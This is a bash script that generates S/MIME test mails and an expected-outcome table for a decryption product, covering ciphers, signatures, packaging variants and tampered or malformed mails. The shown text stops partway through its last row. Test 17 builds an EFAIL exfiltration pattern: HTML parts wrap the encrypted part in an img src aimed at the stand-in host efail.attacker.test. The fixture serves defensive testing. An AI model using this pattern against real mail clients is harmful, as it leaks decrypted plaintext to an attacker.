#!/usr/bin/env bash
# Makes the S/MIME mail fixtures for the decryption (and signature) tests and a table,
# smime/cases.tsv, that says what the product must do with each mail.
#
# Usage: tests/data/make-smime-fixtures.sh [OUTPUT_DIR]     (default: tests/data/generated)
#
# Runs AFTER make-fixtures.sh on the same OUTPUT_DIR: it encrypts to the server identities
# (server/*.p12) and signs with the client keys that script made. Only the openssl CLI (3.0, with
# the legacy provider for RC2) and gpgsm (GnuPG 2.2, in a throwaway home) are used, so the mails
# come from third-party implementations and a test cannot agree with a bug in our own code.
# OUTPUT_DIR/smime/ is wiped and recreated on every run; the set of files is always the same,
# the bytes differ (fresh content keys, IVs, signatures). Every row is checked with the openssl
# CLI before cases.tsv is written.
set -euo pipefail
export LC_ALL=C
umask 022
exec </dev/null # openssl and gpgsm must never wait for input typed on stdin

script_dir=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd)
out=${1:-$script_dir/generated}

die() { echo "make-smime-fixtures: $*" >&2; exit 1; }

command -v openssl >/dev/null || die "openssl not found"
command -v gpgsm >/dev/null || die "gpgsm not found (Debian package gpgsm)"
command -v gpgconf >/dev/null || die "gpgconf not found (Debian package gpgconf)"
[[ -e $out/.casecrypt-fixtures && -f $out/cases.tsv && -f $out/server/ok-aes256.p12 ]] ||
  die "$out has no certificate fixtures: run tests/data/make-fixtures.sh $out first"
out=$(cd -- "$out" && pwd)
M=$out/smime
rm -rf -- "$M"
mkdir -p -- "$M"

work=$(mktemp -d "${TMPDIR:-/tmp}/casecrypt-smime.XXXXXX")
# A throwaway gpgsm home under OUTPUT_DIR, a new one on every run: a gpg-agent of an earlier run
# that is still shutting down would remove the sockets of a new agent in the same directory.
# The agent puts its sockets there and a Unix socket path must stay short (108 bytes), so a very
# deep OUTPUT_DIR falls back to the temp dir.
if ((${#M} <= 60)); then gnupg_home=$(mktemp -d "$M/.gnupg.XXXXXX"); else gnupg_home=$work/gnupg; fi
# stop_agent: stops the gpg-agent of this home only (addressed through its socket) and waits
# for it to go, then removes the home.
stop_agent() {
  [[ -d $gnupg_home ]] || return 0
  GNUPGHOME=$gnupg_home gpgconf --kill gpg-agent >/dev/null 2>&1 || true
  local i
  for ((i = 0; i < 50; i++)); do
    [[ -S $gnupg_home/S.gpg-agent ]] || break
    sleep 0.1
  done
  rm -rf -- "$gnupg_home"
}
cleanup() {
  stop_agent
  rm -rf -- "$work"
}
trap cleanup EXIT

export OPENSSL_CONF=$work/openssl.cnf
printf '[ req ]\ndistinguished_name = req_dn\n[ req_dn ]\n' >"$OPENSSL_CONF"
LEGACY=(-provider legacy -provider default) # RC2 lives in the legacy provider

# run CMD...: runs a command quietly; on failure shows its output and stops.
run() {
  local log=$work/log.$BASHPID
  if ! "$@" </dev/null >"$log" 2>&1; then
    cat "$log" >&2
    die "failed: $*"
  fi
}

# ---------------------------------------------------------------------------------------------
# Certificates and keys from make-fixtures.sh.
# ---------------------------------------------------------------------------------------------
S=$out/server
K=$out/keys
ID=$work/id
mkdir -p "$ID"
# identity NAME: the certificate of server/NAME.p12 to $ID/NAME.crt (the key stays in the p12;
# mails are encrypted to certificates only).
identity() {
  run openssl pkcs12 -in "$S/$1.p12" -passin "file:$S/$1.pass" -nokeys -clcerts -out "$ID/$1.crt"
}
identity ok-aes256
identity ok-ec-p256
identity ok-expired
identity ok-two-addresses
SUPPORT=$ID/ok-aes256.crt
SUPPORT_EC=$ID/ok-ec-p256.crt
# bob@customer.test: an unrelated client certificate, the second one of the two-certificate bundle.
awk '/-----BEGIN CERTIFICATE-----/ { n++ } n == 2' "$out/client/ok-bundle-two-ee.pem" >"$ID/bob.crt"
grep -q bob@customer.test < <(openssl x509 -noout -email -in "$ID/bob.crt") || die "bob's certificate not found"
# alice@example.test signs: keyUsage digitalSignature, extendedKeyUsage emailProtection, issued by ca/ca.pem.
ALICE_CRT=$out/client/ok-rsa-ku-eku-email.pem
ALICE_KEY=$K/alice.key
# A self-signed certificate for bob@customer.test that does not chain to ca/ca.pem.
run openssl req -x509 -new -key "$K/bob.key" -sha256 -days 3650 \
  -subj "/CN=Bob Customer/emailAddress=bob@customer.test" \
  -addext "keyUsage=critical,digitalSignature,keyEncipherment" \
  -addext "extendedKeyUsage=emailProtection" -out "$ID/bob-self-signed.crt"

# ---------------------------------------------------------------------------------------------
# Building blocks. Every file is written with CRLF line ends (openssl writes LF in base64).
# ---------------------------------------------------------------------------------------------
CUSTOMER='Carl Customer <carl@customer.test>'
ALICE='Alice Example <alice@example.test>'
TO_SUPPORT='Example Support <support@example.test>'
T=$work/t # intermediate entities
mkdir -p "$T"

crlf() { sed -e 's/\r$//' -e 's/$/\r/'; }
# headers N FROM TO SUBJECT: the RFC 5322 header fields of mail N (a fixed date per case).
headers() {
  printf 'From: %s\r\nTo: %s\r\nSubject: %s\r\nDate: Tue, 03 Jun 2025 10:%02d:00 +0000\r\nMessage-ID: <smime-%s@customer.test>\r\n' \
    "$2" "$3" "$4" "$((10#${1%%[!0-9]*}))" "$1"
}
# mail NAME N FROM TO SUBJECT ENTITY: smime/NAME = the header fields + the MIME entity
# ENTITY (which starts with MIME-Version/Content-Type as openssl writes it).
mail() { { headers "$2" "$3" "$4" "$5"; crlf <"$6"; } >"$M/$1"; }
# text_entity OUT TEXT: a text/plain MIME entity whose body holds the distinctive line TEXT.
text_entity() {
  printf 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n%s\r\n\r\nThis is a test mail for the casecrypt decryption tests.\r\n' \
    "$2" >"$1"
}
# encrypt IN OUT OPTIONS...: OUT = openssl's S/MIME entity of IN enveloped with OPTIONS
# (cipher, -recip CERT..., -keyopt ...); IN is taken as is (-binary: already canonical CRLF).
encrypt() {
  local in=$1 dest=$2
  shift 2
  run openssl cms -encrypt -binary -in "$in" -out "$dest.lf" "$@"
  crlf <"$dest.lf" >"$dest"
  rm -- "$dest.lf"
}
# sign IN OUT SIGNER_CERT SIGNER_KEY [OPTIONS...]: OUT = the signed S/MIME entity of IN
# (multipart/signed by default, -nodetach for application/pkcs7-mime signed-data).
sign() {
  local in=$1 dest=$2 crt=$3 key=$4
  shift 4
  run openssl cms -sign -in "$in" -signer "$crt" -inkey "$key" -md sha256 -crlfeol -out "$dest.lf" "$@"
  crlf <"$dest.lf" >"$dest"
  rm -- "$dest.lf"
}
# entity_headers FILE / entity_body FILE: a MIME entity's header block / everything after it.
entity_headers() { awk '{ print } /^\r?$/ { exit }' "$1" | sed '$d'; }
entity_body() { awk 'body { print } /^\r?$/ { body = 1 }' "$1"; }
# p7m_der ENTITY OUT: decodes the base64 body of an openssl S/MIME entity into DER.
p7m_der() { entity_body "$1" | tr -d '\r' | openssl base64 -d -out "$2"; }
# rebody ENTITY DER OUT: ENTITY's header block with DER as its base64 body.
rebody() { { entity_headers "$1"; printf '\r\n'; openssl base64 -in "$2" | crlf; } >"$3"; }
# flip_byte FILE OFFSET: XORs the byte at OFFSET with 0x80.
flip_byte() {
  local b
  b=$(od -An -tu1 -j "$2" -N1 "$1" | tr -d ' \n')
  [[ -n $b ]] || die "flip_byte: $1 has no byte at $2"
  # shellcheck disable=SC2059 # the format is an octal escape made on purpose
  printf "$(printf '\\%03o' $((b ^ 0x80)))" | dd of="$1" bs=1 seek="$2" conv=notrunc status=none
}
# encrypted_content DER: "OFFSET HEADER_LENGTH LENGTH" of the encryptedContent [0] (primitive,
# as openssl writes it without -stream) of an (Auth)EnvelopedData.
encrypted_content() {
  openssl asn1parse -inform DER -in "$1" |
    sed -nE 's/^ *([0-9]+):d=4 +hl= *([0-9]+) +l= *([0-9]+) +prim: +cont \[ 0 \].*/\1 \2 \3/p' | tail -n 1
}

# ---------------------------------------------------------------------------------------------
# cases.tsv rows (written to the work dir, moved into place after the self-check).
# ---------------------------------------------------------------------------------------------
tsv=$work/cases.tsv
printf 'file\tp12\tpassword_file\texpect\ttext\terror\tcipher\tintegrity\tsignature\tsigner\tsubject\tdescription\n' >"$tsv"
row() { printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$@" >>"$tsv"; }
# ok FILE P12_NAME TEXT CIPHER INTEGRITY SIGNATURE SIGNER SUBJECT DESCRIPTION: a mail that decrypts.
ok() { row "smime/$1" "server/$2.p12" "server/$2.pass" decrypt "$3" - "$4" "$5" "$6" "$7" "$8" "$9"; }
# signed_only FILE TEXT INTEGRITY SIGNATURE SIGNER SUBJECT DESCRIPTION: signed, not encrypted.
signed_only() { row "smime/$1" - - verify "$2" - - "$3" "$4" "$5" "$6" "$7"; }
# no FILE ERROR DESCRIPTION: a mail the product must reject (holding the support identity).
no() { row "smime/$1" server/ok-aes256.p12 server/ok-aes256.pass reject - "$2" - - - - - "$3"; }

# simple NAME N SUBJECT TEXT OPENSSL_OPTIONS...: a text mail from the customer to support,
# enveloped with OPTIONS. Leaves the S/MIME entity in $T/N.p7m for variants.
simple() {
  local name=$1 n=$2 subject=$3 text=$4
  shift 4
  text_entity "$T/$n.txt" "$text"
  encrypt "$T/$n.txt" "$T/$n.p7m" "$@"
  mail "$name" "$n" "$CUSTOMER" "$TO_SUPPORT" "$subject" "$T/$n.p7m"
}

# ---------------------------------------------------------------------------------------------
# Content ciphers and key transport.
# ---------------------------------------------------------------------------------------------
simple 01-aes256-cbc.eml 01 "Test 01: AES-256-CBC" "Secret text 01: AES-256-CBC" -aes-256-cbc -recip "$SUPPORT"
ok 01-aes256-cbc.eml ok-aes256 "Secret text 01: AES-256-CBC" AES-256-CBC no none - "Test 01: AES-256-CBC" \
  "EnvelopedData, AES-256-CBC, RSA PKCS#1 v1.5 key transport, recipient by issuer and serial number"
simple 02-aes128-cbc.eml 02 "Test 02: AES-128-CBC" "Secret text 02: AES-128-CBC" -aes-128-cbc -recip "$SUPPORT"
ok 02-aes128-cbc.eml ok-aes256 "Secret text 02: AES-128-CBC" AES-128-CBC no none - "Test 02: AES-128-CBC" \
  "EnvelopedData, AES-128-CBC"
simple 03-aes256-gcm.eml 03 "Test 03: AES-256-GCM" "Secret text 03: AES-256-GCM" -aes-256-gcm -recip "$SUPPORT"
ok 03-aes256-gcm.eml ok-aes256 "Secret text 03: AES-256-GCM" id-aes256-GCM yes none - "Test 03: AES-256-GCM" \
  "AuthEnvelopedData (RFC 5083/5084), AES-256-GCM, smime-type=authEnveloped-data"
simple 04-rsa-oaep-sha256.eml 04 "Test 04: RSA-OAEP" "Secret text 04: RSA-OAEP SHA-256" -aes-256-cbc \
  -recip "$SUPPORT" -keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256
ok 04-rsa-oaep-sha256.eml ok-aes256 "Secret text 04: RSA-OAEP SHA-256" AES-256-CBC no none - "Test 04: RSA-OAEP" \
  "RSAES-OAEP key transport with SHA-256 and MGF1-SHA-256"
simple 05-ec-p256.eml 05 "Test 05: EC P-256" "Secret text 05: ECDH P-256" -aes-256-cbc -recip "$SUPPORT_EC"
ok 05-ec-p256.eml ok-ec-p256 "Secret text 05: ECDH P-256" AES-256-CBC no none - "Test 05: EC P-256" \
  "EC P-256 recipient: KeyAgreeRecipientInfo, dhSinglePass-stdDH-sha1kdf-scheme, AES key wrap"
simple 06-three-recipients.eml 06 "Test 06: three recipients" "Secret text 06: three recipients" -aes-256-cbc \
  -recip "$ID/bob.crt" -recip "$SUPPORT" -recip "$SUPPORT_EC"
ok 06-three-recipients.eml ok-aes256 "Secret text 06: three recipients" AES-256-CBC no none - "Test 06: three recipients" \
  "three RecipientInfos (bob@customer.test RSA first, support RSA, support EC): decrypt with the RSA identity"
ok 06-three-recipients.eml ok-ec-p256 "Secret text 06: three recipients" AES-256-CBC no none - "Test 06: three recipients" \
  "same mail as the row above: decrypt with the EC identity (the KeyAgreeRecipientInfo)"
simple 11-des3.eml 11 "Test 11: 3DES" "Secret text 11: DES-EDE3-CBC" -des3 -recip "$SUPPORT"
ok 11-des3.eml ok-aes256 "Secret text 11: DES-EDE3-CBC" DES-EDE3-CBC no none - "Test 11: 3DES" \
  "legacy content cipher 3DES (DES-EDE3-CBC): must still decrypt"
simple 12-rc2.eml 12 "Test 12: RC2" "Secret text 12: RC2-CBC" "${LEGACY[@]}" -rc2-128 -recip "$SUPPORT"
ok 12-rc2.eml ok-aes256 "Secret text 12: RC2-CBC" RC2-CBC no none - "Test 12: RC2" \
  "legacy content cipher RC2-CBC, 128-bit key: needs OpenSSL's legacy provider, must still decrypt"

# ---------------------------------------------------------------------------------------------
# Signed, then encrypted; signed only.
# ---------------------------------------------------------------------------------------------
# 07: multipart/signed (detached) by alice, the whole signed entity enveloped.
text_entity "$T/07.txt" "Secret text 07: signed then encrypted"
sign "$T/07.txt" "$T/07.signed" "$ALICE_CRT" "$ALICE_KEY"
encrypt "$T/07.signed" "$T/07.p7m" -aes-256-cbc -recip "$SUPPORT"
mail 07-signed-then-encrypted.eml 07 "$ALICE" "$TO_SUPPORT" "Test 07: signed then encrypted" "$T/07.p7m"
ok 07-signed-then-encrypted.eml ok-aes256 "Secret text 07: signed then encrypted" AES-256-CBC yes valid alice@example.test \
  "Test 07: signed then encrypted" "multipart/signed (detached, SHA-256, RSA) by alice, CA ca/ca.pem, inside EnvelopedData; From matches the signer"
# 08: opaque signed-data (application/pkcs7-mime; smime-type=signed-data) inside enveloped-data.
text_entity "$T/08.txt" "Secret text 08: opaque signed then encrypted"
sign "$T/08.txt" "$T/08.signed" "$ALICE_CRT" "$ALICE_KEY" -nodetach
encrypt "$T/08.signed" "$T/08.p7m" -aes-256-cbc -recip "$SUPPORT"
mail 08-opaque-signed-then-encrypted.eml 08 "$ALICE" "$TO_SUPPORT" "Test 08: opaque signed then encrypted" "$T/08.p7m"
ok 08-opaque-signed-then-encrypted.eml ok-aes256 "Secret text 08: opaque signed then encrypted" AES-256-CBC yes valid \
  alice@example.test "Test 08: opaque signed then encrypted" \
  "opaque SignedData (application/pkcs7-mime; smime-type=signed-data, cms -sign -nodetach) by alice inside EnvelopedData"
# 09: signed by alice, but From says mallory.
text_entity "$T/09.txt" "Secret text 09: signer is not the sender"
sign "$T/09.txt" "$T/09.signed" "$ALICE_CRT" "$ALICE_KEY"
encrypt "$T/09.signed" "$T/09.p7m" -aes-256-cbc -recip "$SUPPORT"
mail 09-signer-from-mismatch.eml 09 'Mallory <mallory@customer.test>' "$TO_SUPPORT" "Test 09: signer mismatch" "$T/09.p7m"
ok 09-signer-from-mismatch.eml ok-aes256 "Secret text 09: signer is not the sender" AES-256-CBC yes mismatch \
  alice@example.test "Test 09: signer mismatch" \
  "valid, trusted signature by alice@example.test, but From is mallory@customer.test: report the mismatch"
# 10: signed by a self-signed certificate that does not chain to ca/ca.pem.
text_entity "$T/10.txt" "Secret text 10: untrusted signer"
sign "$T/10.txt" "$T/10.signed" "$ID/bob-self-signed.crt" "$K/bob.key"
encrypt "$T/10.signed" "$T/10.p7m" -aes-256-cbc -recip "$SUPPORT"
mail 10-signer-untrusted.eml 10 'Bob Customer <bob@customer.test>' "$TO_SUPPORT" "Test 10: untrusted signer" "$T/10.p7m"
ok 10-signer-untrusted.eml ok-aes256 "Secret text 10: untrusted signer" AES-256-CBC no untrusted bob@customer.test \
  "Test 10: untrusted signer" \
  "signature correct but by a self-signed certificate for bob@customer.test that does not chain to ca/ca.pem"
# 26: multipart/signed, not encrypted, valid.
text_entity "$T/26.txt" "Secret text 26: signed only"
sign "$T/26.txt" "$T/26.signed" "$ALICE_CRT" "$ALICE_KEY"
mail 26-signed-only-valid.eml 26 "$ALICE" "$TO_SUPPORT" "Test 26: signed only" "$T/26.signed"
signed_only 26-signed-only-valid.eml "Secret text 26: signed only" yes valid alice@example.test "Test 26: signed only" \
  "multipart/signed (detached) by alice, not encrypted, valid signature"
# 27: multipart/signed whose signed text was changed afterwards.
printf 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nSecret text 27: modified after signing\r\n\r\nPlease pay 100 EUR.\r\n' >"$T/27.txt"
sign "$T/27.txt" "$T/27.signed" "$ALICE_CRT" "$ALICE_KEY"
sed -i 's/Please pay 100 EUR\./Please pay 900 EUR./' "$T/27.signed"
grep -q 'Please pay 900 EUR' "$T/27.signed" || die "27: could not modify the signed text"
mail 27-signed-only-modified.eml 27 "$ALICE" "$TO_SUPPORT" "Test 27: signed, modified" "$T/27.signed"
signed_only 27-signed-only-modified.eml "Secret text 27: modified after signing" no invalid alice@example.test \
  "Test 27: signed, modified" "multipart/signed by alice, not encrypted; 100 EUR changed to 900 EUR after signing: invalid signature"

# ---------------------------------------------------------------------------------------------
# MIME packaging variants.
# ---------------------------------------------------------------------------------------------
text_entity "$T/13.txt" "Secret text 13: x-pkcs7-mime"
encrypt "$T/13.txt" "$T/13.p7m" -aes-256-cbc -recip "$SUPPORT"
sed -i 's#^Content-Type: application/pkcs7-mime;#Content-Type: application/x-pkcs7-mime;#' "$T/13.p7m"
mail 13-x-pkcs7-mime.eml 13 "$CUSTOMER" "$TO_SUPPORT" "Test 13: x-pkcs7-mime" "$T/13.p7m"
ok 13-x-pkcs7-mime.eml ok-aes256 "Secret text 13: x-pkcs7-mime" AES-256-CBC no none - "Test 13: x-pkcs7-mime" \
  "Content-Type application/x-pkcs7-mime (old S/MIME v2 name)"

text_entity "$T/14.txt" "Secret text 14: octet-stream p7m"
encrypt "$T/14.txt" "$T/14.p7m" -aes-256-cbc -recip "$SUPPORT"
{
  printf 'MIME-Version: 1.0\r\nContent-Type: application/octet-stream; name="smime.p7m"\r\n'
  printf 'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="smime.p7m"\r\n\r\n'
  entity_body "$T/14.p7m"
} >"$T/14.mime"
mail 14-octet-stream-p7m.eml 14 "$CUSTOMER" "$TO_SUPPORT" "Test 14: octet-stream" "$T/14.mime"
ok 14-octet-stream-p7m.eml ok-aes256 "Secret text 14: octet-stream p7m" AES-256-CBC no none - "Test 14: octet-stream" \
  "Outlook style: application/octet-stream; name=smime.p7m, recognised by the .p7m file name"

# multipart_mixed OUT BOUNDARY PART_FILE...: a multipart/mixed entity of the given part entities.
multipart_mixed() {
  local dest=$1 boundary=$2 part
  shift 2
  {
    printf 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="%s"\r\n\r\nThis is a multi-part message in MIME format.\r\n' "$boundary"
    for part in "$@"; do
      printf '\r\n--%s\r\n' "$boundary"
      grep -v '^MIME-Version:' "$part" | crlf | sed '${/^\r$/d}'
    done
    printf '\r\n--%s--\r\n' "$boundary"
  } >"$dest"
}
text_entity "$T/15.txt" "Secret text 15: only part of multipart/mixed"
encrypt "$T/15.txt" "$T/15.p7m" -aes-256-cbc -recip "$SUPPORT"
multipart_mixed "$T/15.mime" "=_casecrypt_15" "$T/15.p7m"
mail 15-only-part-of-mixed.eml 15 "$CUSTOMER" "$TO_SUPPORT" "Test 15: inside multipart/mixed" "$T/15.mime"
ok 15-only-part-of-mixed.eml ok-aes256 "Secret text 15: only part of multipart/mixed" AES-256-CBC no none - \
  "Test 15: inside multipart/mixed" "the enveloped entity is the only part of a multipart/mixed (as some gateways wrap it)"

# 16: protected headers (RFC 9788): the real Subject is inside, the outer one is obscured.
{
  printf 'Content-Type: text/plain; charset=utf-8; hp="cipher"\r\nContent-Transfer-Encoding: 7bit\r\n'
  headers 16 "$CUSTOMER" "$TO_SUPPORT" "The real subject"
  headers 16 "$CUSTOMER" "$TO_SUPPORT" "[...]" | sed 's/^/HP-Outer: /'
  printf '\r\nSecret text 16: protected headers\r\n'
} >"$T/16.txt"
encrypt "$T/16.txt" "$T/16.p7m" -aes-256-cbc -recip "$SUPPORT"
mail 16-protected-headers.eml 16 "$CUSTOMER" "$TO_SUPPORT" "[...]" "$T/16.p7m"
ok 16-protected-headers.eml ok-aes256 "Secret text 16: protected headers" AES-256-CBC no none - "The real subject" \
  "header protection (RFC 9788): the inner entity has Content-Type parameter hp=cipher, Subject: The real subject and HP-Outer fields; the outer Subject is [...]"

# 17: EFAIL direct exfiltration pattern around an enveloped part.
printf 'Content-Type: text/html; charset=utf-8\r\n\r\n<img src="http://efail.attacker.test/\r\n' >"$T/17.html1"
printf 'Content-Type: text/html; charset=utf-8\r\n\r\n">\r\n' >"$T/17.html2"
text_entity "$T/17.txt" "Secret text 17: EFAIL"
encrypt "$T/17.txt" "$T/17.p7m" -aes-256-cbc -recip "$SUPPORT"
multipart_mixed "$T/17.mime" "=_casecrypt_17" "$T/17.html1" "$T/17.p7m" "$T/17.html2"
mail 17-efail-mixed.eml 17 "$CUSTOMER" "$TO_SUPPORT" "Test 17: EFAIL pattern" "$T/17.mime"
ok 17-efail-mixed.eml ok-aes256 "Secret text 17: EFAIL" AES-256-CBC no none - "Test 17: EFAIL pattern" \
  "EFAIL: multipart/mixed of a text/html part opening an img src attribute to http://efail.attacker.test/, the enveloped part, a text/html part closing it: decrypt only that part in isolation, never join it to the HTML around it, do not mark the plain parts as encrypted"

# ---------------------------------------------------------------------------------------------
# Rejects.
# ---------------------------------------------------------------------------------------------
simple 18-other-recipient-only.eml 18 "Test 18: for someone else" "Secret text 18: not for us" -aes-256-cbc -recip "$ID/bob.crt"
no 18-other-recipient-only.eml "no key" "encrypted only to bob@customer.test, whose key no server identity holds"

simple 19-truncated.eml 19 "Test 19: truncated" "Secret text 19: truncated" -aes-256-cbc -recip "$SUPPORT"
n_b64=$(entity_body "$T/19.p7m" | wc -l)
{ entity_headers "$T/19.p7m"; printf '\r\n'; entity_body "$T/19.p7m" | sed -n "1,$((n_b64 / 2))p"; } >"$T/19.cut"
mail 19-truncated.eml 19 "$CUSTOMER" "$TO_SUPPORT" "Test 19: truncated" "$T/19.cut"
no 19-truncated.eml damaged "like 01, but only the first half of the base64 lines"

# 20: characters in the middle base64 line replaced by their successors in the base64 alphabet
# (still valid base64, the DER still parses; in a mail this size the bytes are inside the RSA
# encryptedKey, the self-check proves it), so the RSA PKCS#1 v1.5 key transport fails.
# openssl does not say so by default: against Bleichenbacher's attack (RFC 3218, "MMA") a failed
# key transport to the given certificate goes on with a random content key, and the CBC padding
# of what that key decrypts is valid with probability ~1/256, so `openssl cms -decrypt` then
# "succeeds" with garbage (exit 0; 3 times in 1000 tries here). That key is drawn anew at every
# decryption of the same file, so regenerating cannot avoid it: every openssl check of this mail
# uses -debug_decrypt, which reports the failed key transport instead.
# With -debug_decrypt the only way through is a corrupt RSA block that still unpads to a
# 32-byte key (~2.5e-8): then a new mail is made, at most 20 times.
corrupt_middle_line() { # corrupt_middle_line ENTITY OUT
  local n
  n=$(entity_body "$1" | wc -l)
  {
    entity_headers "$1"
    printf '\r\n'
    entity_body "$1" | awk -v mid=$((n / 2 + 1)) '
      BEGIN { a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/" }
      NR == mid { s = ""
                  for (i = 1; i <= length($0); i++) {
                    c = substr($0, i, 1); p = index(a, c)
                    if (i >= 17 && i <= 24 && p > 0) c = substr(a, p % 64 + 1, 1)
                    s = s c }
                  $0 = s }
      { print }'
  } >"$2"
}
run openssl pkcs12 -in "$S/ok-aes256.p12" -passin "file:$S/ok-aes256.pass" -nocerts -nodes -out "$ID/ok-aes256.key"
for ((try = 1; ; try++)); do
  simple 20-corrupt-base64.eml 20 "Test 20: corrupt" "Secret text 20: corrupt" -aes-256-cbc -recip "$SUPPORT"
  corrupt_middle_line "$T/20.p7m" "$T/20.bad"
  p7m_der "$T/20.bad" "$T/20.bad.der"
  # "Error decrypting CMS using private key" is openssl's message for a failed key transport
  # (not for a failed content decryption).
  if ! openssl cms -decrypt -debug_decrypt -binary -inform DER -in "$T/20.bad.der" -recip "$SUPPORT" \
    -inkey "$ID/ok-aes256.key" -out /dev/null >"$T/20.err" 2>&1 &&
    grep -q 'Error decrypting CMS using private key' "$T/20.err"; then
    break
  fi
  ((try < 20)) || die "20: the key transport of 20 corrupt copies in a row did not fail"
done
mail 20-corrupt-base64.eml 20 "$CUSTOMER" "$TO_SUPPORT" "Test 20: corrupt" "$T/20.bad"
no 20-corrupt-base64.eml damaged "like 01, 8 base64 characters in the middle line changed (still valid base64, DER still parses, key transport fails)"

# 21: AuthEnvelopedData with one byte of the encryptedContent flipped: the GCM tag must not verify.
simple 21-gcm-tag-mismatch.eml 21 "Test 21: GCM tag mismatch" "Secret text 21: GCM tag mismatch" -aes-256-gcm -recip "$SUPPORT"
p7m_der "$T/21.p7m" "$T/21.der"
read -r off hl len < <(encrypted_content "$T/21.der") || die "21: no encryptedContent"
flip_byte "$T/21.der" $((off + hl + len - 2))
rebody "$T/21.p7m" "$T/21.der" "$T/21.bad"
mail 21-gcm-tag-mismatch.eml 21 "$CUSTOMER" "$TO_SUPPORT" "Test 21: GCM tag mismatch" "$T/21.bad"
no 21-gcm-tag-mismatch.eml damaged "like 03 (AES-256-GCM), the second-to-last byte of the encryptedContent flipped: authentication tag mismatch"

printf 'MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nPlain text 22: this mail is not encrypted.\r\n' >"$T/22.txt"
mail 22-not-smime.eml 22 "$CUSTOMER" "$TO_SUPPORT" "Test 22: plain text" "$T/22.txt"
no 22-not-smime.eml "not an S/MIME" "a plain text/plain mail, neither encrypted nor signed"

# 23: enveloped data whose content is again an enveloped S/MIME entity, 10 levels and 2 levels.
nest() { # nest DEPTH: $T/23-DEPTH.p7m
  local i cur=$T/23.txt
  text_entity "$T/23.txt" "Secret text 23: nested $1 levels"
  for ((i = 1; i <= $1; i++)); do
    encrypt "$cur" "$T/23-$1.$i.p7m" -aes-256-cbc -recip "$SUPPORT"
    cur=$T/23-$1.$i.p7m
  done
  cp -- "$cur" "$T/23-$1.p7m"
}
nest 10
mail 23-nested-depth-10.eml 23 "$CUSTOMER" "$TO_SUPPORT" "Test 23: nested 10 levels" "$T/23-10.p7m"
no 23-nested-depth-10.eml nesting "EnvelopedData whose content is an enveloped S/MIME entity, 10 levels deep: nesting limit"
nest 2
mail 23-nested-depth-2.eml 23b "$CUSTOMER" "$TO_SUPPORT" "Test 23: nested 2 levels" "$T/23-2.p7m"
ok 23-nested-depth-2.eml ok-aes256 "Secret text 23: nested 2 levels" AES-256-CBC no none - "Test 23: nested 2 levels" \
  "EnvelopedData inside EnvelopedData, 2 levels: within the nesting limit, decrypts (both layers AES-256-CBC)"

# 28: CBC padding destroyed. Flipping bit 7 of the last byte of the second-to-last ciphertext
# block flips the same bit of the last plaintext byte (the padding length, 1..16): always invalid.
simple 28-cbc-padding-flipped.eml 28 "Test 28: bad padding" "Secret text 28: bad padding" -aes-256-cbc -recip "$SUPPORT"
p7m_der "$T/28.p7m" "$T/28.der"
read -r off hl len < <(encrypted_content "$T/28.der") || die "28: no encryptedContent"
((len >= 32)) || die "28: encryptedContent too short"
flip_byte "$T/28.der" $((off + hl + len - 17))
rebody "$T/28.p7m" "$T/28.der" "$T/28.bad"
mail 28-cbc-padding-flipped.eml 28 "$CUSTOMER" "$TO_SUPPORT" "Test 28: bad padding" "$T/28.bad"
no 28-cbc-padding-flipped.eml damaged "like 01, one ciphertext byte flipped so that the CBC padding is invalid (key transport succeeds, content decryption fails)"

simple 36-password-recipient-only.eml 36 "Test 36: password recipient" "Secret text 36: PWRI" -aes-256-cbc -pwri_password 'not our business'
no 36-password-recipient-only.eml "no key" "only a PasswordRecipientInfo (cms -pwri_password), no recipient certificate at all"

# ---------------------------------------------------------------------------------------------
# More recipients and encodings.
# ---------------------------------------------------------------------------------------------
simple 29-expired-server-cert.eml 29 "Test 29: expired certificate" "Secret text 29: expired server certificate" \
  -aes-256-cbc -recip "$ID/ok-expired.crt"
ok 29-expired-server-cert.eml ok-expired "Secret text 29: expired server certificate" AES-256-CBC no none - \
  "Test 29: expired certificate" "encrypted to the expired support certificate (valid to 2020-12-31): old mail must still decrypt"
text_entity "$T/30.txt" "Secret text 30: second address"
encrypt "$T/30.txt" "$T/30.p7m" -aes-256-cbc -recip "$ID/ok-two-addresses.crt"
mail 30-two-addresses-helpdesk.eml 30 "$CUSTOMER" 'Helpdesk <helpdesk@example.test>' "Test 30: helpdesk address" "$T/30.p7m"
ok 30-two-addresses-helpdesk.eml ok-two-addresses "Secret text 30: second address" AES-256-CBC no none - \
  "Test 30: helpdesk address" "To: helpdesk@example.test, the SAN address of server/ok-two-addresses.p12, encrypted to that certificate"
simple 31-recipient-by-ski.eml 31 "Test 31: subjectKeyIdentifier" "Secret text 31: recipient by SKI" -aes-256-cbc -keyid -recip "$SUPPORT"
ok 31-recipient-by-ski.eml ok-aes256 "Secret text 31: recipient by SKI" AES-256-CBC no none - "Test 31: subjectKeyIdentifier" \
  "recipient identified by subjectKeyIdentifier (cms -keyid, RecipientInfo version 2), not issuer and serial"
simple 32-ec-sha256-kdf.eml 32 "Test 32: EC SHA-256 KDF" "Secret text 32: ECDH SHA-256 KDF" -aes-128-cbc \
  -recip "$SUPPORT_EC" -keyopt ecdh_kdf_md:sha256
ok 32-ec-sha256-kdf.eml ok-ec-p256 "Secret text 32: ECDH SHA-256 KDF" AES-128-CBC no none - "Test 32: EC SHA-256 KDF" \
  "EC P-256 recipient with dhSinglePass-stdDH-sha256kdf-scheme (RFC 5753), AES-128-CBC"
simple 33-lf-line-ends.eml 33 "Test 33: LF line ends" "Secret text 33: LF line ends" -aes-256-cbc -recip "$SUPPORT"
tr -d '\r' <"$M/33-lf-line-ends.eml" >"$T/33.lf" && mv -- "$T/33.lf" "$M/33-lf-line-ends.eml"
ok 33-lf-line-ends.eml ok-aes256 "Secret text 33: LF line ends" AES-256-CBC no none - "Test 33: LF line ends" \
